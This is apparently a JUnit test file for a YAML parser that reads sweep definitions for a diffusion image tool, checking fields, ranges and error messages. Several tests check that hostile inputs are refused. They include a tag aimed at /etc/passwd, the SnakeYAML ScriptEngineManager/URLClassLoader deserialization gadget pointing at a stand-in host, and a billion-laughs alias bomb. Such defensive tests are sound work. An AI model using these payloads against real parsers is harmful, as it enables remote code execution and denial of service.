package com.diffusionlab.scheduling;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import com.diffusionlab.tracking.GenerationSettings;
import java.io.Reader;
import java.io.StringReader;
import java.time.Duration;
import java.util.Collections;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class SweepYamlTest {

  private static final String EXAMPLE =
      """
      # Which sampler draws the bundled model's shapes best?
      name: sampler-comparison          # required
      experiment: sampler comparison
      description: |
        Five samplers at 20 steps, three seeds each.
      session: 3
      base:
        model: tiny-shapes
        prompt: two red circles at the top
        steps: 20
        cfg: 3
        seed: 7
      x: {field: sampler, values: [euler, euler_a, dpmpp_2m, ddim, pndm]}
      y: {field: seed, values: "1-3"}
      # z: {field: steps, values: "10-30 (+10)"}
      """;

  @Test
  void readsEveryPartOfADefinition() {
    SweepDefinition sweep = SweepYaml.parse(EXAMPLE);

    assertThat(sweep.name()).isEqualTo("sampler-comparison");
    assertThat(sweep.experiment()).isEqualTo("sampler comparison");
    assertThat(sweep.description()).isEqualTo("Five samplers at 20 steps, three seeds each.\n");
    assertThat(sweep.sessionId()).isEqualTo(3L);
    GenerationSettings base = sweep.base();
    assertThat(base.model()).isEqualTo("tiny-shapes");
    assertThat(base.prompt()).isEqualTo("two red circles at the top");
    assertThat(base.steps()).isEqualTo(20);
    assertThat(base.cfg()).isEqualTo(3.0);
    assertThat(base.seed()).isEqualTo(7L);
    assertThat(base.sampler()).isNull();
    assertThat(sweep.x().field()).isEqualTo("sampler");
    assertThat(sweep.x().values()).containsExactly("euler", "euler_a", "dpmpp_2m", "ddim", "pndm");
    assertThat(sweep.y().values()).containsExactly(1L, 2L, 3L);
    assertThat(sweep.z()).isNull();
    assertThat(sweep.cellCount()).isEqualTo(15);
    assertThat(sweep.cells().get(8).label()).isEqualTo("sampler=ddim, seed=2");
    assertThat(sweep.cells().get(8).settings().seed()).isEqualTo(2L);
    assertThat(sweep.cells().get(8).settings().sampler()).isEqualTo("ddim");
  }

  @Test
  void optionalKeysTakeTheirDefaults() {
    SweepDefinition sweep =
        SweepYaml.parse(
            """
            name: tiny
            base: {prompt: a large green square}
            x: {field: cfg, values: "2, 2.5, 3"}
            """);
    assertThat(sweep.experiment()).isEqualTo("tiny");
    assertThat(sweep.description()).isNull();
    assertThat(sweep.sessionId()).isNull();
    assertThat(sweep.base().model()).isNull();
    assertThat(sweep.x().values()).containsExactly(2.0, 2.5, 3.0);
  }

  @Test
  void axesMixListsRangesAndQuotedText() {
    SweepDefinition sweep =
        SweepYaml.parse(
            """
            name: mixed
            base: {prompt: a large green square, steps: 20}
            x: {field: steps, values: "1-3, 7, 10-12 (+2)"}
            y:
              field: negativePrompt
              values:
                - blurry, dark
                - ""
            z: {field: clipSkip, values: [1, 2-3]}
            """);
    assertThat(sweep.x().values()).containsExactly(1, 2, 3, 7, 10, 12);
    assertThat(sweep.y().values()).containsExactly("blurry, dark", "");
    assertThat(sweep.z().values()).containsExactly(1, 2, 3);
  }

  @Test
  void promptSearchReplaceSearchesTheBasePrompt() {
    SweepDefinition sweep =
        SweepYaml.parse(
            """
            name: shapes
            base: {prompt: two red circles at the top}
            x: {field: seed, values: 1-2}
            y: {field: prompt_sr, values: "circles, squares, \\"large stars\\""}
            """);
    assertThat(sweep.cells())
        .extracting(c -> c.settings().prompt())
        .containsExactly(
            "two red circles at the top",
            "two red circles at the top",
            "two red squares at the top",
            "two red squares at the top",
            "two red large stars at the top",
            "two red large stars at the top");
  }

  static Stream<Arguments> mistakes() {
    return Stream.of(
        mistake(
            "a value a range puts out of bounds",
            """
            name: n
            base: {prompt: p}
            x:
              field: steps
              values: 0-2
            """,
            5,
            "x.values",
            "line 5, key 'x.values': '0-2' is not allowed: steps takes 1 to 1000 (the range"
                + " includes 0)"),
        mistake(
            "a misspelt key",
            """
            name: n
            # the base
            bsae: {prompt: p}
            x: {field: steps, values: 1}
            """,
            3,
            "bsae",
            "line 3, key 'bsae' is unknown; allowed keys: name, experiment, description, session,"
                + " base, x, y, z"),
        mistake(
            "no name",
            "base: {prompt: p}\nx: {field: steps, values: 1}\n",
            1,
            "name",
            "line 1, key 'name' is missing; expected the sweep's name, 1 to 200 characters"),
        mistake(
            "no x axis",
            "name: n\nbase: {prompt: p}\ny: {field: steps, values: 1}\n",
            1,
            "x",
            "key 'x' is missing; expected a map with field and values"),
        mistake(
            "a key given twice",
            "name: n\nbase: {prompt: p}\nname: m\nx: {field: steps, values: 1}\n",
            3,
            "name",
            "line 3, key 'name' is given twice; first on line 1"),
        mistake(
            "a list for an axis",
            "name: n\nbase: {prompt: p}\nx: [steps, 1]\n",
            3,
            "x",
            "line 3, key 'x' is a list; expected a map with field and values"),
        mistake(
            "a map for axis values",
            "name: n\nbase: {prompt: p}\nx:\n  field: steps\n  values: {a: 1}\n",
            5,
            "x.values",
            "line 5, key 'x.values' is a map; expected a list, or a comma-separated string"),
        mistake(
            "a list item that is a list",
            "name: n\nbase: {prompt: p}\nx:\n  field: steps\n  values:\n    - 1\n    - [2]\n",
            7,
            "x.values",
            "line 7, key 'x.values' is a list; expected a single value"),
        mistake(
            "a base key that is no setting",
            "name: n\nbase:\n  prompt: p\n  sampler_name: euler\nx: {field: steps, values: 1}\n",
            4,
            "base.sampler_name",
            "line 4, key 'base.sampler_name' is unknown; allowed keys: model, prompt,"),
        mistake(
            "a base value the setting refuses",
            "name: n\nbase:\n  prompt: p\n  cfg: 101\nx: {field: steps, values: 1}\n",
            4,
            "base.cfg",
            "line 4, key 'base.cfg': '101' is not allowed: 0 to 100"),
        mistake(
            "an empty model",
            "name: n\nbase:\n  prompt: p\n  model: ' '\nx: {field: steps, values: 1}\n",
            4,
            "base.model",
            "is not allowed: a model name, content hash or 10-digit short hash"),
        mistake(
            "unquoted commas inside braces",
            "name: n\nbase: {prompt: p}\nx: {field: cfg, values: 2, 3}\n",
            3,
            "x.3",
            "line 3, key 'x.3' is unknown; allowed keys: field, values (inside {...} a"
                + " comma-separated string of values needs quotes)"),
        mistake(
            "a merge key",
            "name: n\nbase: {prompt: p, <<: {steps: 3}}\nx: {field: steps, values: 1}\n",
            2,
            "base.<<",
            "line 2, key 'base.<<' has the tag !!merge; write plain values without tags"),
        mistake(
            "a list for a base value",
            "name: n\nbase:\n  prompt: p\n  steps: [1, 2]\nx: {field: steps, values: 1}\n",
            4,
            "base.steps",
            "line 4, key 'base.steps' is a list; expected 1 to 1000"),
        mistake(
            "an axis on a setting no axis may vary",
            "name: n\nbase: {prompt: p}\nx: {field: initImage, values: abc}\n",
            3,
            "x.field",
            "line 3, key 'x.field': 'initImage' is not allowed: one of model, prompt,"),
        mistake(
            "two axes on one setting",
            "name: n\nbase: {prompt: p}\nx: {field: steps, values: 1}\n"
                + "y: {field: cfg, values: 1}\nz: {field: steps, values: 2}\n",
            5,
            "z.field",
            "line 5, key 'z.field': 'steps' is not allowed: a setting no other axis varies;"
                + " x already varies steps"),
        mistake(
            "prompt and prompt S/R together",
            "name: n\nbase: {prompt: p}\nx: {field: prompt, values: [a, b]}\n"
                + "y: {field: prompt_sr, values: [p, q]}\n",
            4,
            "y.field",
            "x already varies prompt"),
        mistake(
            "a Prompt S/R text the prompt lacks",
            "name: n\nbase: {prompt: two red circles}\nx: {field: prompt_sr, values: [blue, red]}\n",
            3,
            "x.values",
            "line 3, key 'x.values': 'blue' is not allowed: a first value that base.prompt contains"
                + " ('two red circles')"),
        mistake(
            "Prompt S/R without a base prompt",
            "name: n\nbase: {steps: 3}\nx: {field: prompt_sr, values: [blue, red]}\n",
            3,
            "x.values",
            "a prompt_sr axis needs base.prompt to search in"),
        mistake(
            "no prompt at all",
            "name: n\nbase:\n  steps: 3\nx: {field: steps, values: 1}\n",
            3,
            "base.prompt",
            "line 3, key 'base.prompt' is missing; expected the prompt every cell draws"),
        mistake(
            "no values",
            "name: n\nbase: {prompt: p}\nx: {field: steps, values: []}\n",
            3,
            "x.values",
            "'[]' is not allowed: at least one value"),
        mistake(
            "a session that is not an id",
            "name: n\nsession: 0\nbase: {prompt: p}\nx: {field: steps, values: 1}\n",
            2,
            "session",
            "line 2, key 'session': '0' is not allowed: a positive whole number"),
        mistake(
            "a name that is too long",
            "name: " + "n".repeat(201) + "\nbase: {prompt: p}\nx: {field: steps, values: 1}\n",
            1,
            "name",
            "is not allowed: 1 to 200 characters"),
        mistake(
            "an empty name",
            "name: ''\nbase: {prompt: p}\nx: {field: steps, values: 1}\n",
            1,
            "name",
            "line 1, key 'name': '' is not allowed: 1 to 200 characters"),
        mistake(
            "a description that is too long",
            "name: n\ndescription: "
                + "d".repeat(20_001)
                + "\nbase: {prompt: p}\n"
                + "x: {field: steps, values: 1}\n",
            2,
            "description",
            "'20001 characters' is not allowed: Markdown of at most 20000 characters"),
        mistake(
            "a bad item among good ones",
            "name: n\nbase: {prompt: p}\nx:\n  field: sampler\n  values:\n    - euler\n"
                + "    - magic\n",
            7,
            "x.values",
            "line 7, key 'x.values': 'magic' is not allowed: sampler takes one of euler"),
        mistake(
            "a tag with no meaning here",
            "name: n\nbase: {prompt: !!binary aGVsbG8=}\nx: {field: steps, values: 1}\n",
            2,
            "base.prompt",
            "line 2, key 'base.prompt' has the tag !!binary; write plain values without tags"),
        mistake(
            "a YAML syntax error",
            "name: n\nbase: {prompt: p}\nx: {field: steps, values: 1\ny: 2\n",
            4,
            "yaml",
            "line 4: "),
        mistake(
            "a list for the document",
            "- name: n\n",
            1,
            "yaml",
            "line 1: the definition is a list; expected a map with name, base and x"),
        mistake(
            "an empty document", "# nothing yet\n", 1, "yaml", "line 1: the definition is empty"),
        mistake(
            "two documents", "name: n\n---\nname: m\n", 2, "yaml", "expected a single document"));
  }

  private static Arguments mistake(String what, String yaml, int line, String key, String message) {
    return Arguments.of(what, yaml, line, key, message);
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("mistakes")
  void mistakesNameTheLineTheKeyAndWhatIsAllowed(
      String what, String yaml, int line, String key, String message) {
    assertThatThrownBy(() -> SweepYaml.parse(yaml))
        .isInstanceOfSatisfying(
            SweepDefinitionException.class,
            e -> {
              assertThat(e.getMessage()).contains(message);
              assertThat(e.line()).isEqualTo(line);
              assertThat(e.key()).isEqualTo(key);
              assertThat(e.errors()).singleElement().extracting(f -> f.field()).isEqualTo(key);
            });
  }

  @Test
  void syntaxErrorsGiveSnakeYamlsProblemAndColumn() {
    assertThatThrownBy(() -> SweepYaml.parse("name: n\nbase: {prompt: p}\n  x: 1\n"))
        .isInstanceOf(SweepDefinitionException.class)
        .hasMessage(
            "line 3: expected <block end>, but found '<block mapping start>' (while parsing a block"
                + " mapping) at column 3");
  }

  @Test
  void thereAreAtMostAThousandCells() {
    String yaml =
        """
        name: big
        base: {prompt: p}
        x: {field: seed, values: 1-100}
        y: {field: cfg, values: 1-5}
        z:
          field: steps
          values: 10, 20, 30
        """;
    assertThatThrownBy(() -> SweepYaml.parse(yaml))
        .isInstanceOfSatisfying(
            SweepDefinitionException.class,
            e -> {
              assertThat(e.line()).isEqualTo(6);
              assertThat(e.key()).isEqualTo("z");
              assertThat(e.getMessage())
                  .isEqualTo(
                      "line 6, key 'z': '100 × 5 × 3 = 1500 cells' is not allowed: at most 1000"
                          + " cells per sweep");
            });
    assertThat(SweepYaml.parse(yaml.replace("10, 20, 30", "10, 20")).cellCount()).isEqualTo(1000);
  }

  @Test
  void anAxisHasAtMostAThousandValues() {
    assertThatThrownBy(
            () ->
                SweepYaml.parse(
                    "name: n\nbase: {prompt: p}\nx:\n  field: seed\n  values:\n    - 1-600\n"
                        + "    - 601-1200\n"))
        .isInstanceOf(SweepDefinitionException.class)
        .hasMessage(
            "line 7, key 'x.values': '601-1200' is not allowed: at most 1000 values per axis;"
                + " with this item there are 1200");
  }

  @Test
  void tagsNeverConstructObjects() {
    for (String tag :
        List.of(
            "!!java.io.File /etc/passwd",
            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
                + " [\"http://example.invalid/\"]]]]")) {
      assertThatThrownBy(
              () -> SweepYaml.parse("name: n\nbase:\n  prompt: " + tag + "\nx: {field: steps}\n"))
          .isInstanceOfSatisfying(
              SweepDefinitionException.class,
              e -> {
                assertThat(e.line()).isEqualTo(3);
                assertThat(e.getMessage()).contains("Global tag is not allowed");
              });
    }
  }

  @Test
  void anAliasBombIsRefusedAtItsFirstAlias() {
    StringBuilder yaml = new StringBuilder("name: lol\nbase:\n  prompt: &a lol\n");
    for (int level = 0; level < 30; level++) {
      String aliases =
          String.join(", ", Collections.nCopies(10, "*" + (level == 0 ? "a" : "l" + (level - 1))));
      yaml.append("l%d: &l%d [%s]\n".formatted(level, level, aliases));
    }
    yaml.append("x: {field: steps, values: *l29}\n");

    assertTimeoutPreemptively(
        Duration.ofSeconds(2),
        () ->
            assertThatThrownBy(() -> SweepYaml.parse(yaml.toString()))
                .isInstanceOfSatisfying(
                    SweepDefinitionException.class,
                    e -> {
                      assertThat(e.line()).isEqualTo(4);
                      assertThat(e.getMessage()).contains("the alias *a is not allowed");
                    }));
  }

  @Test
  void deepNestingIsRefusedWithALine() {
    String deep = "[".repeat(50) + "]".repeat(50);
    assertThatThrownBy(
            () ->
                SweepYaml.parse(
                    "name: n\nbase: {prompt: p}\nx: {field: steps, values: " + deep + "}\n"))
        .isInstanceOfSatisfying(
            SweepDefinitionException.class,
            e -> {
              assertThat(e.line()).isEqualTo(3);
              assertThat(e.getMessage()).contains("Nesting Depth exceeded");
            });
  }

  @Test
  void anEndlessUploadStopsAtTheSizeLimit() {
    Reader endless =
        new Reader() {
          @Override
          public int read(char[] buffer, int offset, int length) {
            java.util.Arrays.fill(buffer, offset, offset + length, '#');
            return length;
          }

          @Override
          public void close() {}
        };
    assertTimeoutPreemptively(
        Duration.ofSeconds(5),
        () ->
            assertThatThrownBy(() -> SweepYaml.parse(endless))
                .isInstanceOf(SweepDefinitionException.class)
                .hasMessage("the definition has more than 1000000 characters"));
  }

  @Test
  void aReaderGivesTheSameDefinitionAsAString() throws Exception {
    assertThat(SweepYaml.parse(new StringReader(EXAMPLE))).isEqualTo(SweepYaml.parse(EXAMPLE));
  }

  static Stream<String> definitions() {
    return Stream.of(
        EXAMPLE,
        """
        name: "42"
        experiment: 'null'
        description: "Ends with spaces   \\nand no newline"
        base:
          model: 0123456789
          prompt: "a: b, c # not a comment"
          negativePrompt: ''
          cfg: 0.1
          eta: 1e-5
          seed: 9007199254740991
          schedule: karras
          rng: torch-cpu
          width: 64
          batch: 2
        x: {field: prompt_sr, values: ["a: b", "x, y", "", "yes", '"quoted"']}
        y: {field: cfg, values: "0-1 [7]"}
        z: {field: model, values: [tiny-shapes, 0123456789]}
        """,
        """
        name: multi
        description: |
          # Heading

          Two paragraphs,
            one indented line.
        base: {prompt: "line one\\nline two"}
        x: {field: prompt, values: ["first\\nsecond", plain]}
        """);
  }

  @ParameterizedTest
  @MethodSource("definitions")
  void whatIsWrittenReadsBackTheSame(String yaml) {
    SweepDefinition sweep = SweepYaml.parse(yaml);
    String written = SweepYaml.toYaml(sweep);
    assertThat(SweepYaml.parse(written)).isEqualTo(sweep);
  }

  @Test
  void theWrittenFormIsWhatAPersonWouldWrite() {
    assertThat(SweepYaml.toYaml(SweepYaml.parse(EXAMPLE)))
        .isEqualTo(
            """
            name: sampler-comparison
            experiment: sampler comparison
            description: |
              Five samplers at 20 steps, three seeds each.
            session: 3
            base:
              model: tiny-shapes
              prompt: two red circles at the top
              seed: 7
              steps: 20
              cfg: 3
            x: {field: sampler, values: [euler, euler_a, dpmpp_2m, ddim, pndm]}
            y: {field: seed, values: [1, 2, 3]}
            """);
  }
}
